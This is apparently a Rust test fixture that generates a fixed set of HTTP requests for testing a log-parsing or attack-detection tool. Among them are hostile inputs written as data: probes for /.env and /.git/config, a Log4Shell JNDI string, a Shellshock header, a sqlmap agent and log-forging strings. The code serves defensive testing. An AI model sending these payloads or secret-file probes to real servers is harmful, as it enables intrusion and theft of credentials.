//! A thousand requests, the same in every run: the labelled ones, bytes that break parsers, and
//! normal pages.

use std::fmt::Write as _;
use std::fs;

use crate::detection::labelled;
use crate::harness::{Harness, Rng};

/// The number of requests.
pub(super) const ALL: usize = 1_000;

/// A request as it is sent.
pub(super) struct Request {
    pub(super) bytes: Vec<u8>,
    /// Only the request line can match a rule.
    pub(super) is_plain: bool,
    /// Intended to break a parser.
    is_hostile: bool,
}

impl Request {
    /// Whether its line is hostile and matches a rule, as far as a server logs it.
    pub(super) fn is_hostile_probe(&self) -> bool {
        const PROBES: [&[u8]; 2] = [b"/.env", b"/.git/config"];
        let line = self
            .bytes
            .split(|byte| *byte == b'\r')
            .next()
            .unwrap_or_default();
        let is_probe = PROBES
            .iter()
            .any(|probe| line.windows(probe.len()).any(|part| part == *probe));
        self.is_hostile && is_probe && line.len() < 8_000
    }

    /// Whether it has a referrer.
    pub(super) fn has_referer(&self) -> bool {
        self.bytes.windows(11).any(|part| part == b"\r\nReferer: ")
    }

    /// Its start, for messages.
    pub(super) fn preview(&self) -> String {
        format!("{:.200}", self.bytes.escape_ascii().to_string())
    }

    /// It has no bytes that need escapes.
    pub(super) fn needs_no_escape(&self) -> bool {
        !self.bytes.contains(&b'"') && !self.bytes.contains(&b'\\')
    }
}

/// Request lines that are invalid, or that a log cannot contain unchanged.
const HOSTILE: [&[u8]; 28] = [
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\xaa\xbb\xcc",
    b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03 ~\"\\",
    b"MGLNDD_192.0.2.1_80",
    b"SSH-2.0-Go",
    b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    b"\x05\x01\x00",
    b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\"}",
    b"GET /.env?with spaces in it HTTP/1.1",
    b"GET  /.git/config  HTTP/1.1",
    b"GET /a b\" 200 1 \"-\" \"x HTTP/1.1",
    b"GET /.env?\"quoted\" HTTP/1.1",
    b"GET /\"/.git/config HTTP/1.1",
    b"GET /.env\\ HTTP/1.1",
    b"GET /\\\"/.env\\\\\" HTTP/1.1",
    b"GET /\\x2e\\x65nv HTTP/1.1",
    b"GET /.env\t HTTP/1.1",
    b"GET\t/.env\tHTTP/1.1",
    b"GET /\0.env HTTP/1.1",
    b"GET /.env\0 HTTP/1.1",
    b"GET /\xff\xfe\x80/.env HTTP/1.1",
    b"GET /.env?\xc3\x28\xf0\x9f\x92 HTTP/1.1",
    b"GET /\xe2\x80\xae/.git/config HTTP/1.1",
    b"GET /\x01\x1b[2J/.env HTTP/1.1",
    b"GET /\x7f/.env HTTP/1.1",
    b"GET http://site.example/.env?a=\"b\" HTTP/1.1",
    b"OPTIONS * HTTP/1.0",
    b"GET /.env",
    b"get /.env HTTP/1.1",
];

/// User agents.
const AGENTS: [&[u8]; 9] = [
    b"quoted \" and \\ and \\\" and \\\\",
    b"\" 200 1 \"-\" \"198.51.100.99 - - [01/Jan/2020:00:00:00 +0000] \"GET /wp-login.php HTTP/1.1",
    b"tab \t and \x01 and \x7f",
    b"\xff\xfe\x80 and \xc3\xbc and \xf0\x9f\x98\x80",
    b"${jndi:ldap://198.51.100.1/a}",
    b"() { :; }; echo \"x\"",
    b"sqlmap/1.7 (https://sqlmap.org)",
    b"\\",
    b"\",\"status\":\"200\",\"client\":\"198.51.100.99",
];

const ORDINARY: &[u8] = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// A site that answers some of the requests.
pub(super) fn lay_out_site(harness: &Harness) {
    fs::create_dir_all(harness.path("site/.git")).unwrap();
    for (name, text) in [
        ("index.html", "<p>Hello"),
        (".git/config", "[core]\n"),
        (".env", "A=b\n"),
        ("wp-login.php", "<?php"),
    ] {
        harness.file(format!("site/{name}"), text);
    }
}

/// All of them, in their order.
pub(super) fn all() -> Vec<Request> {
    let mut requests = hostile();
    let (attacks, ordinary) = labelled();
    for labelled in attacks.iter().step_by(2).chain(&ordinary) {
        let of = |text: &str| {
            if text == "-" {
                Vec::new()
            } else {
                text.as_bytes().to_vec()
            }
        };
        let is_plain = labelled.referer == "-" && labelled.agent.as_bytes() == ORDINARY;
        let (line, referer, agent) = (
            sent(&labelled.request),
            of(&labelled.referer),
            of(&labelled.agent),
        );
        requests.push(Target {
            line,
            referer,
            agent,
            is_plain,
            is_hostile: false,
        });
    }
    assert!(
        requests.len() < ALL - 50,
        "no room for ordinary pages: {}",
        requests.len()
    );
    for page in requests.len()..ALL {
        let line = format!("GET /page/{page}?q={page} HTTP/1.1").into_bytes();
        requests.push(Target {
            line,
            referer: Vec::new(),
            agent: ORDINARY.to_vec(),
            is_plain: true,
            is_hostile: false,
        });
    }
    shuffle(&mut requests);
    requests
        .iter()
        .enumerate()
        .map(|(number, target)| to_bytes(number, target))
        .collect()
}

/// The bytes that a server logged: `\xHH` is one byte, unless it would end the line.
fn sent(logged: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut rest = logged.as_bytes();
    while let [byte, tail @ ..] = rest {
        let hex = rest
            .strip_prefix(b"\\x")
            .and_then(|digits| digits.get(..2))
            .and_then(|digits| std::str::from_utf8(digits).ok());
        let escaped = hex
            .and_then(|digits| u8::from_str_radix(digits, 16).ok())
            .filter(|byte| !b"\r\n".contains(byte));
        bytes.push(escaped.unwrap_or(*byte));
        rest = if escaped.is_some() { &rest[4..] } else { tail };
    }
    bytes
}

/// The request target.
struct Target {
    line: Vec<u8>,
    referer: Vec<u8>,
    agent: Vec<u8>,
    /// Only the line matters.
    is_plain: bool,
    is_hostile: bool,
}

fn hostile() -> Vec<Target> {
    let target = |line: &[u8], referer: &[u8], agent: &[u8]| {
        let [line, referer, agent] = [line, referer, agent].map(<[u8]>::to_vec);
        let is_plain = agent == ORDINARY;
        Target {
            line,
            referer,
            agent,
            is_plain,
            is_hostile: true,
        }
    };
    let line = |line: &[u8]| target(line, b"", ORDINARY);
    let mut requests: Vec<Target> = HOSTILE.iter().map(|hostile| line(hostile)).collect();
    for filler in [&b"a"[..], b"%2e", b"\"", b"\\", b"\xff"] {
        let long = filler.repeat(7_000 / filler.len());
        requests.push(line(&[b"GET /.env?", &long[..], b" HTTP/1.1"].concat()));
    }
    requests.push(line(
        &[b"GET /", &b"b".repeat(9_000)[..], b"/.env HTTP/1.1"].concat(),
    ));
    for agent in AGENTS {
        requests.push(target(b"GET /.env HTTP/1.1", b"", agent));
        requests.push(target(b"GET / HTTP/1.1", agent, agent));
    }
    requests
}

fn shuffle(requests: &mut [Target]) {
    let mut rng = Rng::new();
    for end in (1..requests.len()).rev() {
        requests.swap(end, rng.below(end as u64 + 1) as usize);
    }
}

/// A request with this line, as it is sent.
pub(super) fn with_line(number: usize, line: &[u8]) -> Request {
    to_bytes(
        number,
        &Target {
            line: line.to_vec(),
            referer: Vec::new(),
            agent: ORDINARY.to_vec(),
            is_plain: true,
            is_hostile: true,
        },
    )
}

fn to_bytes(number: usize, target: &Target) -> Request {
    let Target {
        line,
        referer,
        agent,
        is_plain,
        is_hostile,
    } = target;
    let mut headers = String::from("\r\nHost: site.example\r\n");
    let _ = write!(
        headers,
        "X-Test-Client: 203.0.113.{}\r\nX-Forwarded-For: 192.0.2.{}, 10.0.0.1\r\n",
        number % 50,
        number % 7
    );
    let mut bytes = [line, headers.as_bytes(), b"User-Agent: ", agent].concat();
    if !referer.is_empty() {
        bytes.extend([b"\r\nReferer: ", &referer[..]].concat());
    }
    bytes.extend(b"\r\nConnection: close\r\n\r\n");
    Request {
        bytes,
        is_plain: *is_plain,
        is_hostile: *is_hostile,
    }
}

#[test]
fn the_requests_are_deterministic() {
    let (one, other) = (all(), all());
    assert_eq!(one.len(), ALL);
    assert!(
        one.iter()
            .zip(&other)
            .all(|(one, other)| one.bytes == other.bytes)
    );
    assert!(one.iter().filter(|request| !request.is_plain).count() > 20);
}
